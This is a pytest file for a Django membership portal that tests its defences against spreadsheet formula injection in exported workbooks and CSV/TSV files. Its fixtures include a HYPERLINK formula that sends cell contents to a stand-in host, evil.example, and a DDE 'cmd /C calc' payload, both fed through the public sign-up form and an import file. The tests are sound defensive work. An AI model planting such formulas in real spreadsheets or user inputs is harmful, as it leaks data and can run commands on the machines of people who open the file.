"""Formula injection (security checklist row 25, ASVS 1.2.10): anyone can name themselves
``=HYPERLINK(…)`` through the public application, so every path that writes what people typed into
a spreadsheet — the portal's workbooks and the Django admin's export in each of its formats — goes
through the one neutraliser (``lib.excel.write.neutralise``). A workbook may hold no formula element at
all; a CSV/TSV cell that would start a formula starts with an apostrophe instead."""

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse
from import_export.admin import ExportMixin as LibraryExportMixin

from members import services as members
from members.models import Application, Member
from orgs import services as orgs
from orgs.admin import admin_site
from tests.members.factories import make_id
from tests.volunteers import factories as vf
from volunteers import services as volunteers

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
PREFIXES = ["=", "+", "-", "@", "|", "\t", "\r", " ="]
MEMBER_FIELDS = ("number", "kind", "name", "id_number", "phone", "org", "joined_on", "status")


def formulas(content: bytes) -> list[str]:
    """Every formula element in every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return [m for name in zf.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >][^<]*", zf.read(name).decode())]


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile(cast, client):
    """A member who applied online under a formula's name, approved; a volunteer and an activity
    and an org named likewise."""
    cache.clear()
    response = client.post(reverse("members:apply", args=[cast.t1.pk]), {
        "kind": "adult", "name": ATTACK, "id_number": make_id(), "phone": "13700000000"})
    assert response.status_code == 302
    cache.clear()
    members.decide_application(Application.objects.get(), by=cast.t1_staff, approve=True)
    vol = vf.volunteer(cast.t1, cast.t1_staff, name="+cmd|' /C calc'!A0", skills="@SUM(1+1)")
    volunteers.log_hours(vol, by=cast.t1_staff, served_on=date(2025, 3, 1), hours=2,
                         activity=vf.activity(cast.t1, cast.t1_staff, title="-2+3", held_on=date(2025, 3, 1)))
    orgs.create_org(parent=cast.d1, by=cast.operator, name="=1+2", level="town", category="town")
    call_command("pii_export_grant", "t1_staff", stdout=io.StringIO())
    return cast


def _admin_export(client, c, extension: str) -> bytes:
    client.force_login(c.d1_admin)
    formats = admin_site._registry[Member].get_export_formats()
    index = next(i for i, f in enumerate(formats) if f().get_extension() == extension)
    return body(client.post(reverse("admin:members_member_export"), {
        "format": str(index), "resource": "0", **{f"memberresource_{f}": "on" for f in MEMBER_FIELDS}}))


WORKBOOKS = {
    "member list": ("t1_staff", lambda client: client.post(reverse("members:export"))),
    "member full export": ("t1_staff", lambda client: client.post(reverse("members:export_full"),
                                                                  {"reason": "年度名册核对"})),
    "volunteer list": ("t1_staff", lambda client: client.post(reverse("volunteers:export"))),
    "volunteer full export": ("t1_staff", lambda client: client.post(reverse("volunteers:export_full"),
                                                                     {"reason": "保险投保名单"})),
    "service records": ("t1_staff", lambda client: client.post(reverse("volunteers:export_records") + "?status=")),
    "statistics": ("d1_admin", lambda client: client.get(reverse("reports:export"))),
}


@pytest.mark.parametrize("kind", list(WORKBOOKS))
def test_portal_workbooks_hold_no_formula(hostile, client, kind):
    role, fetch = WORKBOOKS[kind]
    client.force_login(getattr(hostile, role))
    content = body(fetch(client))
    assert formulas(content) == []
    hostile_values = [v for v in cells(content) if isinstance(v, str) and v.lstrip("'")[:1] in "=+-@|"
                      and v.lstrip("'") in {ATTACK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=1+2"}]
    assert hostile_values and all(v.startswith("'") for v in hostile_values)


def test_admin_xlsx_export_holds_no_formula(hostile, client):
    content = _admin_export(client, hostile, "xlsx")
    assert formulas(content) == [] and "'" + ATTACK in cells(content)


@pytest.mark.parametrize("extension, delimiter", [("csv", ","), ("tsv", "\t")])
def test_admin_text_exports_start_hostile_cells_with_a_quote(hostile, client, extension, delimiter):
    text = _admin_export(client, hostile, extension).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    names = [row[rows[0].index("姓名/单位名称")] for row in rows[1:]]
    assert names == ["'" + ATTACK]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_prefix_is_neutralised_in_the_import_error_workbook(cast, login, prefix):
    """The error workbook writes back what the uploaded file held, unstripped."""
    wb = openpyxl.Workbook()
    wb.active.append(["会员类别", "姓名/单位名称", "身份证号码", "手机号码", "在校学生", "统一社会信用代码", "联系人",
                      "所属组织编号", "入会日期"])
    # (not in the phone column: ID numbers and phones are masked in that workbook)
    wb.active.append(["成人会员", f"{prefix}cmd|' /C calc'!A0", "123", None, "否", f"{prefix}1",
                      f"{prefix}SUM(1)", None, None])
    for cell in wb.active[2]:  # typed in as text (openpyxl would make "=…" a formula, which is refused)
        if isinstance(cell.value, str):
            cell.data_type = "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    client = login(cast.t1_staff)
    response = client.post(reverse("members:import"), {"file": SimpleUploadedFile("m.xlsx", buffer.getvalue()),
                                                       "commit": "0"})
    content = body(client.get(reverse("members:import_failed", args=[response.context["result"].token])))
    assert formulas(content) == []
    typed_in = {t.lstrip() for t in (f"{prefix}cmd|' /C calc'!A0", f"{prefix}1", f"{prefix}SUM(1)")}
    written = [v for v in cells(content) if isinstance(v, str) and v.lstrip("'").lstrip() in typed_in]
    assert len(written) == 3 and all(v.startswith("'") for v in written)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_admin_csv_neutralises_every_prefix(cast, client, prefix):
    member = members.create_member(by=cast.t1_staff, org=cast.t1, kind="adult", name="占位", id_number=make_id(),
                                   phone="13800000000")
    Member.objects.filter(pk=member.pk).update(name=f"{prefix}cmd")  # as if entered before the forms stripped it
    text = _admin_export(client, cast, "csv").decode("utf-8-sig")
    row = next(csv.reader(io.StringIO(text[text.index("\n") + 1:])))
    assert row[2] == f"'{prefix}cmd"


def test_every_admin_export_goes_through_the_portal_formats(cast):
    from lib.excel import admin_formats as exports

    request = RequestFactory().get("/")
    request.user = cast.operator
    exporting = [a for a in admin_site._registry.values() if isinstance(a, LibraryExportMixin)]
    assert exporting  # the members' admin at least
    for model_admin in exporting:
        assert isinstance(model_admin, exports.ExportMixin), type(model_admin)
        assert set(model_admin.get_export_formats()) <= set(exports.FORMATS)
        assert all(issubclass(r, exports.Resource) for r in model_admin.get_export_resource_classes(request))
